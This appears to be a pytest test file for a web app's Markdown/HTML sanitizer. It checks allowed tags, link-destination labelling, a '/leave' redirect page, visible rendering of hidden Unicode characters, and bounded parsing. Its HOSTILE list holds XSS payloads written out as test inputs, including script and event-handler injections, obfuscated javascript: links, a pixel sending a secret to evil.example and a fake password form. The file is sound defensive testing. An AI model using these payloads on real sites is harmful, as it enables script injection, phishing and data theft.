"""Somebody's text on a page: what it may not do, layer by layer, and that links say where they lead."""

import html.parser
import re

import pytest
from desks import Desk

from pocketlet.surfaces.web import prose

#: What a text may become: an element, and the attributes that it may have.
ALLOWED = {name: set[str]() for name in prose.TAGS} | {"a": {"href", "rel"}, "ol": {"start"}}

HOSTILE = (
    "<script>window.__pwned = 1</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?d=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](data:text/html,<script>x</script>)",
    "[click](//evil.example) [click](/admin/delete) [click](\\\\evil.example) [click](?a=b) [click](#x)",
    "[click](http://evil.example) [click](https:evil.example) [click](https:///evil.example)",
    "[click](https://good.example@evil.example/) [click](https://good.example\\@evil.example/)",
    "[click](https://good.example%00.evil.example/) [click](https://[::1]/)",
    "<javascript:alert(1)> <https://u:p@evil.example>",
    '[x](https://h.example "onmouseover=alert(1)") [x](https://h.example/"onclick=x)',
    '<button hx-get="/pwn" hx-trigger="load" hx-on:click="x">x</button>',
    '<div hx-swap-oob="true" id="main">gone</div> <hx-partial hx-target="#main">x</hx-partial>',
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example><base href=//evil.example>",
    "<iframe srcdoc='<script>x</script>'></iframe><object data=x></object><embed src=x><svg onload=x></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:x' style='position:fixed' class='primary' id='main'>x</a>",
    '`<script>x</script>`\n\n```html" onload=x\n<script>x</script>\n```\n\n    <script>x</script>\n',
    "| <img src=x onerror=y> | b |\n|:-:|--:|\n| <script>x</script> | [x](javascript:y) |",
    "[ref]\n\n[ref]: javascript:alert(1)\n[b]: <data:text/html,x> 'title'",
    "# <script>x</script>\n\nUnder <b onclick=x>line</b>\n---\n> <img src=x>\n1. <video src=x>\n",
    "<!-- --><script>x</script><!--><img src=x onerror=y>--> <![CDATA[<script>x</script>]]> <?php x ?>",
    "&lt;script&gt;x&lt;/script&gt; &#60;img src=x onerror=y&#62;",
)


class _Reader(html.parser.HTMLParser):
    """Every element with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def _inside(text: str) -> list[tuple[str, dict[str, str | None]]]:
    """What a text became, without the box around it."""
    (tag, box), *inside = _Reader(str(prose.prose(text))).found
    assert (tag, box) == ("div", {"class": "prose", "hx-ignore": None})
    return inside


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_but_text_comes_out(text: str) -> None:
    for tag, attributes in _inside(text):
        assert tag in ALLOWED
        assert attributes.keys() <= ALLOWED[tag]
        if tag == "a" and "href" in attributes:
            assert re.fullmatch(r"/leave\?to=https%3A%2F%2F(evil|h)\.example[\w%.-]*", str(attributes["href"]))


def test_the_list_holds_without_the_parser() -> None:
    left = prose.cleaned
    assert left("<script>x</script><img src=x onerror=y><p class=primary id=main style=a hx-get=/x>t</p>") == "<p>t</p>"
    for bad in (
        "//evil.example",
        "/admin/delete",
        "javascript:x",
        "data:,x",
        "https://u@evil.example",
        " https://a.example",
    ):
        assert "href" not in left(f'<a href="{bad}">x</a>')
    assert 'href="/leave?to=https%3A%2F%2Fa.example%2F%3Fb"' in left('<a href="https://a.example/?b">x</a>')
    assert "start" not in left("<ol start=javascript:x><li>a</li></ol>")


def test_links_say_where_they_lead() -> None:
    def text(markdown: str) -> str:
        return re.sub(r"<[^>]+>", "", str(prose.prose(markdown))).strip()

    assert text("[your order](https://evil.example/a?b=c)") == "your order (evil.example)"
    assert text("[https://good.example](https://evil.example/)") == "https://good.example (evil.example)"
    assert text("[a](https://\u0430pple.example)") == "a (xn--pple-43d.example)"
    assert text("[a](https://h.example:8443/x)") == "a (h.example:8443)"
    assert text("<https://h.example/>") == "https://h.example/"
    assert text("[write](mailto:a@b.example?subject=x)") == "write (a@b.example)"
    assert text("[evil.example](https://evil.example)") == "evil.example"


def test_it_reads_as_it_was_written() -> None:
    made = str(prose.prose("# Late\n\nHello,\nyour **order** left.\n\n- one\n- two\n\nAnn\nShop"))
    assert "Hello,<br>" in made
    assert "<strong>order</strong>" in made
    assert "<li>one</li>" in made
    assert "<p><strong>Late</strong></p>" in made
    assert "<h1" not in made


def test_what_does_not_show_is_drawn() -> None:
    made = str(prose.prose("a\u202eb &#x202e; c\u200bd \U000e0041 e\u2066f\x00"))
    assert made.count("⟨U+202E⟩") == 2
    assert "⟨U+200B⟩" in made
    assert "⟨U+E0041⟩" in made
    assert "⟨U+2066⟩" in made
    assert not re.search(r"[\u200b\u202e\u2066\x00\U000e0041]", made)


@pytest.mark.parametrize(
    "piece", ["[", "[a](", "![", "*a ", "> ", "- ", "`", "<", "|a", "_*", "[a]: <", "[](", "\\[", "&#x202e;"]
)
def test_the_work_is_bounded(piece: str) -> None:
    """A megabyte is not parsed at all; what is parsed is done before the test's time is over."""
    long = piece * (1_000_000 // len(piece))
    made = str(prose.prose(long))
    assert made.startswith('<pre class="text" hx-ignore>')
    assert len(made) < 12 * len(long)
    assert prose.prose(long[: prose.LONGEST])
    assert str(prose.sql(long)).startswith('<code class="sql">')


def test_sql_has_classes_and_no_more() -> None:
    made = prose.sql("SELECT name FROM customers WHERE mail = '<img src=x onerror=y>' -- \u202e<script>")
    assert '<span class="k">SELECT</span>' in made
    assert "&lt;img" in made
    assert "⟨U+202E⟩" in made
    for tag, attributes in _Reader(str(made)).found:
        assert tag in ("code", "span")
        assert attributes.keys() == {"class"}


async def test_the_way_out_shows_host_and_query(desk: Desk) -> None:
    async with await desk.browser() as browser:
        shown = await browser.get(
            "/leave", params={"to": "https://evil.example/collect?name=Maya%20Okafor&x=%E2%80%AE1"}
        )
        assert shown.status_code == 200
        assert {"evil.example", "/collect", "Maya Okafor", "⟨U+202E⟩1"} <= set(re.split(r"[<>]", shown.text))
        assert shown.text.count('href="https://evil.example/collect?name=Maya%20Okafor&amp;x=%E2%80%AE1"') == 1
        for bad in (
            "javascript:alert(1)",
            "//evil.example",
            "/costs",
            "http://evil.example",
            "",
            "https://u:p@evil.example",
        ):
            refused = await browser.get("/leave", params={"to": bad})
            assert refused.status_code == 422
            assert "javascript:" not in refused.text
        mail = await browser.get("/leave", params={"to": "mailto:a@b.example?subject=Hello"})
        assert {"a@b.example", "Hello"} <= set(re.split(r"[<>]", mail.text))
